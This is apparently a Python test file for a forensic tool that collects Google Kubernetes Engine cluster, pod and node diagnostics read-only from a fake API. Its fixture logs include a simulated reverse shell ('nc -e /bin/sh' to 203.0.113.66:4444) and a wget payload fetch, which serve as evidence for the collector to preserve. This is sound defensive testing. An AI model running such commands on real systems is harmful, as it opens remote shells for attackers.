"""collect-cluster against the fake: the Container API description, then the cluster's own
Kubernetes API over HTTPS trusted through the CA the description carries; reads only."""

from __future__ import annotations

import json

import pytest

from responders.gcp.cluster import CLUSTER_DIAGNOSTICS
from responders.runtime import InputError, Status
from tests.gcp.conftest import Project, act, open_test_case

CLUSTER = "projects/prewire-fake/locations/europe-west1/clusters/payments"


@pytest.fixture
def cluster(project: Project) -> str:
    fake = project.fake
    assert fake.kubernetes.certificate is not None
    fake.gke.add_cluster(
        "europe-west1",
        "payments",
        fake.kubernetes.endpoint,
        fake.kubernetes.certificate.read_bytes(),
    )
    for name, path in CLUSTER_DIAGNOSTICS[:-1]:  # deployments left out: reported, not invented
        fake.gke.objects[path] = {"kind": "List", "items": [{"metadata": {"name": f"{name}-1"}}]}
    return CLUSTER


def test_the_cluster_is_described_and_read_without_a_change(project: Project, cluster: str) -> None:
    case = open_test_case(project)
    [outcome] = act(case, "collect-cluster", cluster)
    assert outcome.status is Status.COLLECTED, outcome.message
    assert outcome.message == f"{len(CLUSTER_DIAGNOSTICS) - 1} item(s) collected, 1 missing"
    assert outcome.warnings == ["not collected: deployments.json (404)"]
    names = {a.key.rsplit("/", 1)[-1] for a in outcome.artifacts}
    assert {"cluster.json", "pods.json", "cluster-role-bindings.json"} <= names
    assert case.store is not None
    pods = next(a for a in outcome.artifacts if a.key.endswith("/pods.json"))
    assert json.loads(case.store.open(pods.key).read())["items"][0]["metadata"]["name"] == "pods-1"
    assert {method for method, _, _ in project.fake.gke.api_requests} == {"GET"}
    assert "pods.list" in [c.operation for c in outcome.calls]
    [again] = act(open_test_case(project), "collect-cluster", cluster)
    assert again.status is Status.UNCHANGED


@pytest.mark.parametrize(
    ("target", "message"),
    [
        ("projects/prewire-fake/locations/europe-west1/clusters/nope", "not found"),
        ("projects/other-project/locations/europe-west1/clusters/payments", "is in project"),
        ("payments", "is not a GKE cluster"),
        (f"{CLUSTER}/namespaces/Bad_NS/pods/web", "is not a GKE cluster, pod or node"),
    ],
)
def test_bad_cluster_targets_are_refused(
    project: Project, cluster: str, target: str, message: str
) -> None:
    with pytest.raises(InputError, match=message):
        act(open_test_case(project), "collect-cluster", target)
    assert project.fake.gke.api_requests == []


POD = f"{CLUSTER}/namespaces/shop/pods/web-7d9"
NODE = f"{CLUSTER}/nodes/gke-payments-pool-1-abcd"


def test_a_pods_description_events_and_container_logs_are_collected(
    project: Project, cluster: str
) -> None:
    objects = project.fake.gke.objects
    objects["/api/v1/namespaces/shop/pods/web-7d9"] = {
        "metadata": {"name": "web-7d9", "namespace": "shop"},
        "spec": {"containers": [{"name": "app"}, {"name": "proxy"}], "nodeName": "n1"},
        "status": {"containerStatuses": [{"name": "app", "restartCount": 2}]},
    }
    objects["/api/v1/namespaces/shop/events?fieldSelector=involvedObject.name%3Dweb-7d9"] = {
        "items": [{"reason": "BackOff"}]
    }
    logs = "/api/v1/namespaces/shop/pods/web-7d9/log?timestamps=true&container="
    objects[f"{logs}app"] = "2026-11-28T05:00:00Z wget http://203.0.113.66/x\n"
    objects[f"{logs}app&previous=true"] = "2026-11-28T04:59:00Z crashed\n"
    objects[f"{logs}proxy"] = "2026-11-28T05:00:01Z GET /\n"
    case = open_test_case(project)
    [outcome] = act(case, "collect-cluster", POD)
    assert outcome.status is Status.COLLECTED, outcome.message
    names = sorted(a.key.rsplit("/", 1)[-1] for a in outcome.artifacts)
    assert names == [
        "cluster.json",
        "logs-app-previous.log",
        "logs-app.log",
        "logs-proxy.log",
        "pod-events.json",
        "pod.json",
    ]
    assert case.store is not None
    app = next(a for a in outcome.artifacts if a.key.endswith("/logs-app.log"))
    assert b"203.0.113.66" in case.store.open(app.key).read()
    assert outcome.warnings == []  # proxy never restarted: no previous run to miss
    assert {method for method, _, _ in project.fake.gke.api_requests} == {"GET"}


def test_a_nodes_pods_and_events_are_collected_and_its_instance_named(
    project: Project, cluster: str
) -> None:
    objects = project.fake.gke.objects
    node = "gke-payments-pool-1-abcd"
    objects[f"/api/v1/nodes/{node}"] = {
        "metadata": {"name": node},
        "spec": {"providerID": f"gce://prewire-fake/europe-west1-b/{node}"},
    }
    objects[f"/api/v1/pods?fieldSelector=spec.nodeName%3D{node}"] = {"items": []}
    [outcome] = act(open_test_case(project), "collect-cluster", NODE)
    assert outcome.status is Status.COLLECTED
    names = sorted(a.key.rsplit("/", 1)[-1] for a in outcome.artifacts)
    assert names == ["cluster.json", "node-pods.json", "node.json"]
    assert outcome.warnings == ["not collected: node-events.json (404)"]
    assert f"projects/prewire-fake/zones/europe-west1-b/instances/{node}" in outcome.message


def test_investigate_cluster_reads_its_state_then_its_control_plane_and_container_logs(
    project: Project, cluster: str
) -> None:
    from datetime import UTC, datetime, timedelta

    from tests.gcp.conftest import play

    when = (datetime.now(UTC) - timedelta(minutes=10)).strftime("%Y-%m-%dT%H:%M:%SZ")
    labels = {"cluster_name": "payments", "location": "europe-west1"}
    project.fake.logging.entries += [
        {  # the API server's audit log: who exec'd into a pod
            "logName": "projects/prewire-fake/logs/cloudaudit.googleapis.com%2Factivity",
            "timestamp": when,
            "resource": {"type": "k8s_cluster", "labels": labels},
            "protoPayload": {"methodName": "io.k8s.core.v1.pods.exec.create"},
        },
        {  # a container's output
            "logName": "projects/prewire-fake/logs/stdout",
            "timestamp": when,
            "resource": {"type": "k8s_container", "labels": {**labels, "pod_name": "web-7d9"}},
            "textPayload": "nc -e /bin/sh 203.0.113.66 4444",
        },
        {  # another cluster: not collected
            "logName": "projects/prewire-fake/logs/stdout",
            "timestamp": when,
            "resource": {"type": "k8s_container", "labels": {**labels, "cluster_name": "other"}},
            "textPayload": "ok",
        },
    ]
    outcomes = play(open_test_case(project), "investigate-cluster", cluster)
    assert [(o.action, o.status) for o in outcomes] == [
        ("collect-cluster", Status.COLLECTED),
        ("collect-logs", Status.COLLECTED),
    ]
    assert "2 log entries" in outcomes[1].message
